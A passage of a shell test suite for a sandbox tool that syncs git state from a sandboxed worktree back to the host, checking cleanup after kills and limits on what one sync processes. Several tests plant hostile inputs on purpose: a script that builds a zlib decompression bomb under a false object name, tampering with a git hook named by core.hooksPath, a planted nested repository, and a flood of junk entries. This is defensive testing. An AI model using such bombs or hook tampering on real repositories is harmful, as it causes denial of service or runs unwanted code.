  while [ ! -e "$WT/ready" ] && [ "$tries" -gt 0 ]; do
    sleep 0.1
    tries=$((tries - 1))
  done
  [ -e "$WT/ready" ]
  hgit -C "$REPO" update-ref refs/heads/task "$(hgit -C "$REPO" commit-tree -m host 'main^{tree}')"
  host_value=$(hgit -C "$REPO" rev-parse task)
  touch "$WT/go"
  wait $!
  cat "$DIR/out.json"
  [ "$(hgit -C "$REPO" rev-parse task)" = "$host_value" ]
  grep -q "refs/heads/task moved on the host during the run" "$DIR/stderr"
}

# run_dir_fs OWNER: while a command waits in the sandbox, what the host sees of the run's per-run
# git dir: on a state root that is not a tmpfs, as root a tmpfs of its own mounted on the state
# root's directory, as an ordinary user a directory of its own in /dev/shm (a tmpfs: the overlay's
# upper and work dirs need not reach a disk), mode 0700, and nothing of the run under the state root
# but its container; on a tmpfs state root a plain directory there. After the run, no per-run dir
# and no mount are left (and teardown finds no mount under DIR).
run_dir_fs() {
  make_repo "$1"
  local dir expect=plain
  # run_dir_fs OWNER tmpfs: the state root a tmpfs (as $XDG_RUNTIME_DIR is), unmounted at the end
  [ "${2:-}" = tmpfs ] && mount -t tmpfs -o "mode=700,uid=$TEST_UID,gid=$TEST_GID" tmpfs "$DIR/state"
  if [ "$(stat -f -c %T "$DIR/state")" != tmpfs ]; then
    expect=own-tmpfs
    [ "$1" = user ] && expect=shm
  fi
  as_owner timeout -s KILL 120 "$FSRUN" --root "$DIR/state" sandbox --policy "$DIR/policy.json" \
    --worktree "$WT" -- /bin/sh -c 'echo two >>README && git commit -qam in-sandbox && touch ready
      i=0; while [ ! -e go ] && [ $i -lt 600 ]; do sleep 0.1; i=$((i+1)); done' 2>"$DIR/stderr" &
  wait_for_file "$WT/ready"
  dir=$(run_dirs)
  echo "per-run dir: $dir ($expect)"
  [ -d "$dir/upper" ]
  case $expect in
    own-tmpfs) [ "$(findmnt -n -o FSTYPE --mountpoint "$dir")" = tmpfs ] ;;
    shm)
      [ "${dir%/*}" = /dev/shm ]
      [ "$(stat -f -c %T "$dir")" = tmpfs ]
      [ "$(stat -c %u:%a "$dir")" = "$TEST_UID:700" ]
      ! ls -A "$DIR/state" | grep '^\.sandbox-git\.' || false ;;
    plain) [ -z "$(findmnt -n --mountpoint "$dir")" ] && [ "${dir%/*}" = "$DIR/state" ] ;;
  esac
  touch "$WT/go"
  wait $!
  [ "$(hgit -C "$REPO" log -1 --format=%s task)" = in-sandbox ]
  [ "$(ls -A "$DIR/state")" = .sandbox-bundle ]
  [ -z "$(run_dirs)" ]
  [ -z "$(grep -F -- "$DIR/state/" /proc/self/mountinfo)" ]
  [ "${2:-}" != tmpfs ] || umount "$DIR/state"
}

@test "sandbox-git: the per-run git dir is a tmpfs as root on a disk state root, and goes after the run (root)" {
  run_dir_fs root
}

@test "sandbox-git: the per-run git dir is in /dev/shm for an ordinary user on a disk state root, and goes after the run (ordinary user)" {
  run_dir_fs user
}

@test "sandbox-git: on a tmpfs state root the per-run git dir is a directory of it (ordinary user)" {
  run_dir_fs user tmpfs
}

# sigkilled OWNER: fsrun sandbox SIGKILLed while its command waits: the watchdog removes the
# container and the per-run git dir (wherever it is: git_run_dirs), and nothing is applied
sigkilled() {
  make_repo "$1"
  local tries pid as=()
  [ "$1" = root ] || as=(setpriv --reuid "$TEST_UID" --regid "$TEST_GID" --clear-groups env HOME="$DIR/home")
  # a simple command, not as_owner: $! must be fsrun itself (setpriv and env exec it)
  "${as[@]}" "$FSRUN" --root "$DIR/state" sandbox --policy "$DIR/policy.json" --worktree "$WT" -- /bin/sh -c \
    'echo two >>README && git commit -qam in-sandbox && touch ready
     i=0; while [ ! -e go ] && [ $i -lt 600 ]; do sleep 0.1; i=$((i+1)); done' 3>&- &
  pid=$!
  wait_for_file "$WT/ready"
  # the per-run dir of a run on a disk is a tmpfs (run_dir_fs): the watchdog unmounts it too
  [ -n "$(run_dirs)" ]
  [ "$1" = user ] || [ "$(stat -f -c %T "$DIR/state")" = tmpfs ] ||
    [ "$(findmnt -n -o FSTYPE --mountpoint "$(echo "$DIR"/state/.sandbox-git.*)")" = tmpfs ]
  kill -KILL "$pid"
  wait "$pid" || true
  # the watchdog deletes the container and the run's git dir once it sees fsrun die
  tries=$((WAIT_MAX_S * 10))
  while [ -n "$(run_dirs)" ] && [ "$tries" -gt 0 ]; do
    sleep 0.1
    tries=$((tries - 1))
  done
  run_dirs
  [ -z "$(run_dirs)" ]
  ls -A "$DIR/state"
  [ "$(ls -A "$DIR/state")" = .sandbox-bundle ]
  [ "$(hgit -C "$REPO" rev-parse task)" = "$MAIN0" ]
  as_owner touch "$WT/go"
}

@test "sandbox-git: a SIGKILLed fsrun sandbox leaves no per-run git dir, and applies nothing" {
  sigkilled root
}

@test "sandbox-git: a SIGKILLed fsrun sandbox leaves no per-run git dir, and applies nothing (ordinary user)" {
  sigkilled user
}

# make_bomb FILE MIB: as the owner, FILE holds a loose object of MIB MiB of zeros (its zlib: about
# a thousandth of that) to be copied under a name it does not hash to: the sync inflates and
# hashes all of it before it finds that out
make_bomb() {
  as_owner python3 -c '
import sys, zlib
c, out, mib = zlib.compressobj(9), open(sys.argv[1], "wb"), int(sys.argv[2])
out.write(c.compress(b"blob %d\0" % (mib << 20)))
for _ in range(mib):
    out.write(c.compress(bytes(1 << 20)))
out.write(c.flush())' "$1" "$2"
}

# the fsrun command line sbx_killed_in_sync runs its script with (exec-git.bats: an exec)
killed_fsrun() {
  KILLED_FSRUN=("$FSRUN" --root "$DIR/state" sandbox --audit-log "$DIR/audit.jsonl"
    --policy "$DIR/policy.json" --worktree "$WT" --)
  [ "$OWNER" != root ] || KILLED_FSRUN=("${KILLED_FSRUN[@]:0:4}" --json "${KILLED_FSRUN[@]:4}")
}

# sbx_killed_in_sync SCRIPT: SCRIPT run by sh as sbx runs it, but in the background with fsrun's
# stderr on a fifo, and fsrun SIGKILLed as soon as its tamper line is out (the point it is held at
# is the sync after it, made seconds long by the caller's bomb); fsrun's stderr in $DIR/stderr
sbx_killed_in_sync() {
  local fifo=$DIR/stderr.fifo pid line rfd rc=0 as=()
  [ "$OWNER" = root ] || as=(setpriv --reuid "$TEST_UID" --regid "$TEST_GID" --clear-groups env HOME="$DIR/home")
  killed_fsrun
  mkfifo "$fifo"
  # a simple command, not as_owner: $! must be fsrun itself (setpriv and env exec it)
  "${as[@]}" env GIT_CONFIG_NOSYSTEM=1 GIT_CONFIG_GLOBAL=/dev/null "${KILLED_FSRUN[@]}" \
    /bin/sh -c "$1" >"$DIR/out" 2>"$fifo" 3>&- &
  pid=$!
  exec {rfd}<"$fifo"
  : >"$DIR/stderr"
  while IFS= read -r -u "$rfd" line; do
    printf '%s\n' "$line" >>"$DIR/stderr"
    [[ $line != *"; tamper: "* ]] || break
  done
  kill -KILL "$pid"
  wait "$pid" || rc=$?
  cat <&"$rfd" >>"$DIR/stderr"
  exec {rfd}<&-
  cat "$DIR/stderr"
  [ "$rc" -eq 137 ]
}

# after_sync_killed: the watchdog of the killed fsrun sandbox has removed its per-run dir (an
# event: the bound only ends a failure)
after_sync_killed() {
  wait_no_run_dirs
  [ "$(ls -A "$DIR/state")" = .sandbox-bundle ]
}

# route_sync_killed OWNER (review19 #15): the command plants a nested repository, edits the hook
# core.hooksPath names, and a zlib bomb (the tamper line names the config entry first: review25 C5)
# within the sync's budget (448 MiB of zeros under a name it does not hash to), and fsrun is
# SIGKILLed once its tamper line is out. That line named the nested repository before the sync
# (none of the sync's own warnings had come: it was still inflating), and afterwards nothing of the
# run is mounted on the host or left in the state root (the per-run dir: a tmpfs of its own as
# root), no fsrun of that state root runs, and the repository has nothing of the bomb.
route_sync_killed() {
  make_repo "$1"
  local bomb_name
  bomb_name=ab/$(printf '%038d' 0)
  make_bomb "$WT/.bomb" 448
  hgit -C "$REPO" config core.hooksPath .husky
  as_owner mkdir "$WT/.husky"
  as_owner sh -c 'printf "#!/bin/sh\ntrue\n" >"$1" && chmod 755 "$1"' sh "$WT/.husky/pre-commit"
  sbx_killed_in_sync "git init -q nested && echo 'echo ran' >>.husky/pre-commit &&
    o=\$(git rev-parse --git-common-dir)/objects && mkdir -p \$o/ab && cp .bomb \$o/$bomb_name"
  grep -qF '; tamper: ["config:core.hooksPath=.husky","nested/.git"]' "$DIR/stderr"
  ! grep -q 'is not what its name says\|left out what' "$DIR/stderr" || false
  after_sync_killed
  run_dirs
  [ -z "$(run_dirs)" ]
  ! grep -F -- "$DIR/state" /proc/self/mountinfo || false
  no_process_left -f -- "--root $DIR/state"
  [ ! -e "$REPO/.git/objects/$bomb_name" ]
  [ "$(hgit -C "$REPO" rev-parse task)" = "$MAIN0" ]
  hgit -C "$REPO" fsck --strict
}

@test "sandbox-git: fsrun SIGKILLed during a slow sync said the tamper first; no per-run dir or mount is left (root)" {
  route_sync_killed root
}

@test "sandbox-git: fsrun SIGKILLed during a slow sync said the tamper first; no per-run dir or mount is left (ordinary user)" {
  route_sync_killed user
}

# make_big_blob FILE MIB: as the owner, FILE holds the loose object of a blob of MIB MiB of zeros,
# a valid one; its id on stdout
make_big_blob() {
  as_owner python3 -c '
import hashlib, sys, zlib
mib = int(sys.argv[2])
head = b"blob %d\0" % (mib << 20)
h, c, out = hashlib.sha1(head), zlib.compressobj(9), open(sys.argv[1], "wb")
out.write(c.compress(head))
for _ in range(mib):
    h.update(bytes(1 << 20))
    out.write(c.compress(bytes(1 << 20)))
out.write(c.flush())
print(h.hexdigest())' "$1" "$2"
}

# route_sync_budget OWNER (review19 #15): a valid object of 513 MiB of data, over the 512 MiB one
# sync inflates and hashes at most (docs/sandbox.md), and a small commit. The object is refused at
# its header and reported, with `objects/`, so the branch does not move (4a3d3f7); the worktree
# keeps the change, to be committed again.
route_sync_budget() {
  make_repo "$1"
  local id
  id=$(make_big_blob "$WT/.big" 513)
  sbx -- "set -e; o=\$(git rev-parse --git-common-dir)/objects; mkdir -p \$o/${id:0:2}
    cp .big \$o/${id:0:2}/${id:2}; git cat-file -t $id; echo two >>README; git commit -qam small"
  [ "$output" = blob ]
  grep -q "objects/${id:0:2}/${id:2}\` is not what its name says (more data than the sync may still inflate)" "$DIR/stderr"
  [ "$(discarded)" = "[\"objects/\",\"objects/${id:0:2}/${id:2}\",\"refs/heads/task\",\"worktrees/task/index\",\"worktrees/task/logs/HEAD\"]" ]
  [ ! -e "$REPO/.git/objects/${id:0:2}/${id:2}" ]
  [ "$(hgit -C "$REPO" rev-parse task)" = "$MAIN0" ]
  hgit -C "$WT" status --porcelain | grep -qx ' M README'
  hgit -C "$REPO" fsck --strict
}

@test "sandbox-git: an object past the sync's 512 MiB budget is not adopted and moves no branch (root)" {
  route_sync_budget root
}

@test "sandbox-git: an object past the sync's 512 MiB budget is not adopted and moves no branch (ordinary user)" {
  route_sync_budget user
}

# route_sync_walk_bound OWNER (flake24): a commit, and 200,001 more entries under objects/ than one
# sync walks (200,000; the walk's other bound, 4 s of CPU time, is the unit test's: a test's machine
# cannot be made to reach it exactly). The entries are empty files under names no object has
# (objects/junk/N): each costs the sync a readdir, not a file on the host, so the walk reaches its
# entry bound and not its CPU time. Past the bound nothing more is checked: `objects/` is reported,
# the branch is not moved (said on stderr: the report's 64 paths are the junk's) (were the junk walked whole, the commit's objects would land and the
# branch move); the worktree keeps the change and the host gets none of the entries.
route_sync_walk_bound() {
  make_repo "$1"
  [ -x /usr/bin/python3 ] || skip "needs /usr/bin/python3"
  sbx -- "set -e; echo two >>README; git commit -qam small
    /usr/bin/python3 -c 'import os, sys
os.mkdir(sys.argv[1])
for i in range(200001):
    os.close(os.open(\"%s/%d\" % (sys.argv[1], i), os.O_WRONLY | os.O_CREAT, 0o644))' \
      \$(git rev-parse --git-common-dir)/objects/junk"
  grep -q 'the run wrote more than 200000 entries under objects/: the rest were not applied' \
    "$DIR/stderr"
  grep -q '^fsrun: warning: sandbox: git: refs/heads/task: .*; not applied$' "$DIR/stderr"
  # the report is full of the junk (64 paths): `objects/` takes the last slot
  discarded | jq -e 'length == 64 and index("objects/") != null'
  [ "$(hgit -C "$REPO" rev-parse task)" = "$MAIN0" ]
  [ ! -e "$REPO/.git/objects/junk" ]
  hgit -C "$WT" status --porcelain | grep -qx ' M README'
  hgit -C "$REPO" fsck --strict
}

@test "sandbox-git: a run past the 200,000 entries one sync walks is reported and moves no branch (root)" {
  route_sync_walk_bound root
}

@test "sandbox-git: a run past the 200,000 entries one sync walks is reported and moves no branch (ordinary user)" {
  route_sync_walk_bound user
}
